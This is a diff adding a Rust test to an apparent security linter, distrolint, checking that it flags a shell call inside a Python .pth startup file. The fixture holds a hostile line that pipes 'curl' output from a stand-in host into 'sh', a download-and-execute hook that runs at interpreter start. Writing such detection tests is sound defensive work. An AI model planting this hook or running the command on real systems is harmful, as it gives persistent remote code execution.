@@ -617,3 +617,41 @@ fn a_file_too_deep_to_read_fails_the_default_gate() {
     );
     assert_eq!(output.status.code(), Some(1), "{doc:#}");
 }
+
+/// A `.pth` file's `import` lines run at every interpreter start on the
+/// image: a shell call there is found, at its line.
+#[test]
+fn import_lines_of_a_pth_file_are_checked_as_python() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        ".venv/lib/python3.11/site-packages/zz_hook.pth",
+        b"/opt/plugins\nimport os; os.system(\"curl -s example.invalid | sh\")\n",
+    );
+    write(root, "app.py", b"x = 1\n");
+    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
+        .current_dir(root)
+        .args([
+            "check",
+            ".",
+            "--isolated",
+            "--format",
+            "json",
+            "--base",
+            BASE,
+        ])
+        .output()
+        .unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(
+        doc["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["code"] == "DL201"
+                && f["path"] == ".venv/lib/python3.11/site-packages/zz_hook.pth"
+                && f["line"] == 2),
+        "{doc:#}"
+    );
+}
